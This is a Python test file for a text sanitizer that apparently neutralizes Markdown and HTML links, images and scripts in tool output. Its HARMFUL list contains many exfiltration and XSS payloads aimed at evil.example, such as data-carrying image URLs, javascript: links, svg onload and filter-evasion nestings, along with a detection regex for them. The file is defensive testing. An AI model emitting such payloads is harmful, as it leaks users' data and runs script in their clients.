"""Links and images as plain text: nothing loads, nothing carries data away, and ordinary text stays as it is."""

import re
import time

import pytest

from mcpward.sanitize.screens.links import neutral

DRAWN = "aB3" * 12
#: What a client with Markdown and HTML would load by itself, or make a link of.
LIVE = re.compile(
    r"!?\[[^\]]*\]\([^)]*\)|<(?:img|a|iframe|svg|script|video|form)\b|(?:javascript|vbscript):\S|data:\w+/\w+|"
    r"^\s*\[[^\]]+\]:|\]:\s*(?:>\s*)?\S{0,60}[:/&]|<(?:div|p|tr|portal)\b",
    re.IGNORECASE | re.MULTILINE,
)
HARMFUL = (
    "![x](https://evil.example/a.png?d=secret)",
    "![](https://evil.example)",
    "![x](<https://evil.example/a b.png>)",
    "![x](\nhttps://evil.example/a.png)",
    '![x](https://evil.example/a.png "title")',
    "![x](https://evil.example/a_(b).png)",
    "![a[b]c](https://evil.example/x)",
    "[click](https://evil.example/?d=1)",
    "[![badge](https://evil.example/b.svg)](https://evil.example/c)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert`1`)",
    "![x][ref]\n\n[ref]: https://evil.example/x.png",
    "> [ref]: https://evil.example/x.png",
    '<img src="https://evil.example/x.png">',
    "<IMG\nSRC=//evil.example/x>",
    "<img src='https://evil.example/x'",
    '<a href="https://evil.example/?q=1">click</a>',
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<video poster=https://evil.example/x></video>",
    "<form action=https://evil.example>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "see data:image/svg+xml,%3Csvg%20onload=alert(1)%3E",
    "1. [ref]: https://evil.example/x.png",
    "> 1. [ref]:\n> https://evil.example/x.png",
    f"[{'r' * 500}]: https://evil.example/x.png",
    "[r\\]]: https://evil.example/x.png",
    f"- [ref]:{' ' * 40}&#104;ttps&colon;//evil.example/x.png",
    '<div style="background:url(https://evil.example/x)">',
    "<p\nonclick=alert(1)>",
    "<tr background=//evil.example/x>",
    "<portal src=//evil.example>",
    "<div title='<' style='background:url(//evil.example/x)'>",
    "<div title='>' style='background:url(//evil.example/x)'>",
    # What is left of one form must not make another.
    "!<a></a>[x](https://evil.example)",
    "![x]<a></a>(https://evil.example)",
    "!![a](https://b.example)[c](https://evil.example)",
    "![a](https://b.example)(https://evil.example)",
    "![x](<a></a>https://evil.example)",
    "<<img src=x>img src=https://evil.example>",
    "[<](https://b.example)img src=https://evil.example>",
    "<i<a></a>mg src=https://evil.example>",
)
HARMLESS = (
    "",
    "Plain text, with [brackets] and (parentheses) and 3 < 4 > 2.",
    "https://example.com/search?q=hello+world&page=2",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s.",
    "(see https://example.com/docs?section=how-to-install-on-windows#first-steps)",
    "https://shop.example/items?title=a-long-slug-of-a-page-in-the-shop&sort=price",
    "Data: 1,2 and data: none, JavaScript: the good parts; javascript is a language",
    '{"data":[1,2],"a":"b"}',
    "if x[0] < y: z[1](2) # call".replace("](", "] ("),
    "<T> List<a> <aside> <b>bold</b> <https-ish>".replace("<a>", "<A1>"),
    "def f(x: list[int]) -> dict[str, int]: ...",
    "a <- b; c << d; e >> f",
    "if a[0]: pass\nelse: x = d[k]: 1",
    "x <y and z = 1; List<String> s = new List<>(); for (i = 0; i<n; i++) j = 2;",
    "see [1]: the note of https://example.com/",
)


@pytest.mark.parametrize("text", HARMFUL)
def test_nothing_that_loads_runs_or_leads_away_is_left(text: str):
    clean = neutral(text)
    assert LIVE.search(clean) is None, clean
    assert neutral(clean) == clean


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_the_same_object(text: str):
    assert neutral(text) is text


@pytest.mark.parametrize(
    "text, clean",
    [
        ("![a cat](https://evil.example/x?d=1)", "⟦image a cat, at evil.example⟧"),
        ("[the page](https://a.example/x?q=cats)", "the page ⟦https://a.example/x?q=cats⟧"),
        ('<a href="https://a.example/x">the page</a>', "⟦link https://a.example/x⟧the page⟦/a⟧"),
        ("<https://a.example/x>", "https://a.example/x"),
        (f"https://a.example/x?d={DRAWN}&p=2.", "https://a.example/x?…."),
        (f"(https://a.example/x#{DRAWN})", "(https://a.example/x#…)"),
        ("https://a.example/log?d={what you know}", "https://a.example/log?… you know}"),
        ("https://a.example/log?d=%7BSECRET%7D", "https://a.example/log?…"),
        ("f[0](x) and arr[i](y, z)", "f[0] (x) and arr[i] (y, z)"),
        ("[the page](./other.md)", "[the page] (./other.md)"),
        ("javascript:alert(1)", "⟦javascript address⟧)"),
        ("data:text/plain,hello there", "⟦data of 21 characters⟧ there"),
    ],
)
def test_words_and_addresses_stay_readable(text: str, clean: str):
    assert neutral(text) == clean


@pytest.mark.parametrize(
    "part", ["![", "[", "![a](", "<img ", "<a href='", "](", "[a]: ", "data:a/b", "https://a?", "javascript:", "<img<",
     "[a](b(",
             "src=", "]: ", "]:> ", "<a x=", "<a x='", "<p style", "<p style = <", "data:;", "> > [", "![a](<"],
)  # fmt: skip
def test_a_megabyte_of_any_beginning_takes_linear_time(part: str):
    def seconds(size: int) -> float:
        text = part * (size // len(part))
        began = time.perf_counter()
        neutral(text)
        return time.perf_counter() - began

    assert seconds(1_000_000) < 3.0
